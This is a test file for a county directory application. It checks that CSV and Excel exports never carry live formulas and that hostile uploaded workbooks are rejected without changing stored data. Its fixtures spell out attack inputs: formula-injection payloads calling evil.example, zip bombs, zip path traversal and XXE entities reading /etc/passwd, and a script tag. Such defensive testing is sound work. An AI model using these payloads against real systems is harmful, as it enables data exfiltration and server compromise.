import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readCsv, readText } from "../../adapters/tables/csv.ts";
import { DIRECTORY_TABLES } from "../../contract/directory-edits.ts";
import { answers, county, holder } from "../functions/county.ts";
import { type Stage, startStage, submission } from "../functions/stage.ts";

/** What is typed here is opened in somebody's spreadsheet later, and what somebody's spreadsheet holds is read here. */
let stage: Stage;
beforeAll(async () => {
  stage = await startStage();
});
afterAll(() => stage.stop());
const admin = holder("admin");

/** Source: OWASP, "CSV Injection", and the wide forms that Excel in China takes as well. */
const SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"];
const payload = (sign: string) => `${sign}HYPERLINK("//evil.example?"&A1)`;
const begins = /^[\s]*[=+\-@＝＋－＠]/;
const cellsOf = (text: string) =>
  readCsv(readText(Buffer.from(text.replaceAll(/(^|,|\n)"?'/g, (guarded) => `${guarded}|`)))).flat();

describe("a cell is never a formula", () => {
  it("in the register, whatever was handed in", async () => {
    for (const sign of SIGNS) {
      const body = submission({ answers: { ...answers, subject: payload(sign) } });
      expect((await stage.ask("submitIssue", { body })).status, sign).toBe(201);
    }
    const { body } = await stage.ask("exportIssues", { as: holder("office") });
    expect(body).toContain("HYPERLINK");
    for (const { text, fault } of cellsOf(body))
      expect([fault, begins.test(text) ? text : ""]).toEqual([undefined, ""]);
  });

  describe("in the directory, whoever it names", () => {
    const odd = {
      ...county.directory,
      version: "formulas",
      units: [
        ...county.directory.units,
        ...SIGNS.map((sign, at) => ({ id: `F${at}`, name: payload(sign).trim(), group: "department" as const })),
      ],
      persons: [
        ...county.directory.persons,
        ...SIGNS.map((sign, at) => ({ id: `f-${at}`, name: payload(sign).trim(), sub: `${sign.trim()}f${at}` })),
      ],
    };
    beforeAll(() => stage.run("operator/load-county", { ...county, directory: odd }));
    it.each(DIRECTORY_TABLES)("%s as CSV and as a workbook", async (table) => {
      const file = async (format: string) => {
        const asked = { params: { table }, query: { format, filled: "true" }, as: admin };
        return Buffer.from((await stage.ask("readTemplate", asked)).body.content, "base64");
      };
      const text = (await file("csv")).toString();
      for (const cell of cellsOf(text))
        expect([cell.fault, begins.test(cell.text) ? cell.text : ""]).toEqual([undefined, ""]);
      // In a workbook a cell says what it is: these are all texts.
      const sheet = (await file("xlsx")).toString();
      expect(sheet).not.toMatch(/<f[ >]/);
      expect(sheet.match(/<c [^>]*>/g)?.filter((cell) => !cell.includes('t="inlineStr"'))).toEqual([]);
    });
    it.each(["csv", "xlsx"])("and what was exported as %s says the same when it is imported again", async (format) => {
      for (const table of ["units", "persons"] as const) {
        const asked = { params: { table }, query: { format, filled: "true" }, as: admin };
        const { content } = (await stage.ask("readTemplate", asked)).body;
        const { body } = await stage.ask("previewDirectoryImport", {
          as: admin,
          body: { table, content, complete: true },
        });
        expect(body.faults.rows.map(({ code }: { code: string }) => code)).toEqual(["no-change"]);
      }
    });
  });
});

const text = (xml: string) => new TextEncoder().encode(xml);
const MB = 1024 * 1024;
const workbook = (sheet: Uint8Array, more: Record<string, Uint8Array> = {}) =>
  zipSync({
    "xl/workbook.xml": text('<workbook xmlns:r="r"><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": text(
      '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    "xl/worksheets/sheet1.xml": sheet,
    ...more,
  });
const sheetOf = (rows: string, before = "") => text(`${before}<worksheet><sheetData>${rows}</sheetData></worksheet>`);
const inline = (one: string) => `<c t="inlineStr"><is><t>${one}</t></is></c>`;
const HEADING = `<row r="1">${["单位编号", "单位名称", "类别"].map(inline).join("")}</row>`;

describe("a file made to hurt is read to its fault, and changes nothing", () => {
  const long = `<si><t>${"x".repeat(2 * MB)}</t></si>`;
  const cell = '<c t="s"><v>0</v></c>';
  it.each<[string, () => Uint8Array, string]>([
    ["a sheet that unpacks to 45 MB", () => workbook(new Uint8Array(45 * MB)), "file-unpacked"],
    [
      "a thousand files",
      () => zipSync(Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`f${at}`, text("a")]))),
      "file-unpacked",
    ],
    ["an archive in an archive", () => zipSync({ "a.zip": zipSync({ "b.zip": new Uint8Array(MB) }) }), "file-zip"],
    [
      "a sheet outside of the archive",
      () =>
        workbook(sheetOf(""), {
          "xl/_rels/workbook.xml.rels": text(
            '<Relationships><Relationship Id="rId1" Target="../../../../etc/passwd"/></Relationships>',
          ),
        }),
      "file-zip",
    ],
    [
      "entities of its own",
      () => workbook(sheetOf("<row/>", '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>')),
      "file-xml",
    ],
    [
      "an entity that reads a file",
      () =>
        workbook(
          sheetOf(
            `<row><c t="inlineStr"><is><t>&x;</t></is></c></row>`,
            '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
          ),
        ),
      "file-xml",
    ],
    ["the last row there can be", () => workbook(sheetOf('<row r="1048576"><c><v>1</v></c></row>')), "too-many-rows"],
    [
      "one text of 2 MB in every cell",
      () =>
        workbook(sheetOf(HEADING + `<row>${inline("U91")}${cell}${inline("部门")}</row>`.repeat(5000)), {
          "xl/sharedStrings.xml": text(`<sst>${long}</sst>`),
        }),
      "cell-long",
    ],
    [
      "a cell with a control character",
      () => workbook(sheetOf(`${HEADING}<row>${["U91", "局&#0;&#xD800;", "部门"].map(inline).join("")}</row>`)),
      "cell-characters",
    ],
    [
      "a formula",
      () => workbook(sheetOf(`${HEADING}<row><c><f>WEBSERVICE("https://evil.example")</f><v>1</v></c></row>`)),
      "formula",
    ],
    ["a program", () => Buffer.from(`MZ\u0090\u0000${"\u0000".repeat(200)}`), "file-encoding"],
    ["a page", () => Buffer.from("<html><script>alert(1)</script></html>"), "heading-unknown"],
    [
      "marks that turn the reading direction",
      () => Buffer.from("单位编号,单位名称,类别\nU91,局\u202Egpj,部门\n"),
      "cell-characters",
    ],
  ])("%s", async (_, made, code) => {
    const before = await stage.contents();
    const content = Buffer.from(made()).toString("base64");
    const { status, body } = await stage.ask("previewDirectoryImport", {
      as: admin,
      body: { table: "units", content, complete: false },
    });
    expect(status).toBe(200);
    expect(body.faults.rows.map((fault: { code: string }) => fault.code)).toContain(code);
    expect(body.preview).toBeUndefined();
    const apply = {
      table: "units",
      content,
      complete: false,
      basedOn: body.basedOn,
      preview: "0".repeat(64),
      reason: "示例",
    };
    expect((await stage.ask("importDirectory", { as: admin, body: apply })).status).toBeGreaterThanOrEqual(400);
    expect(await stage.contents()).toEqual(before);
  });
});
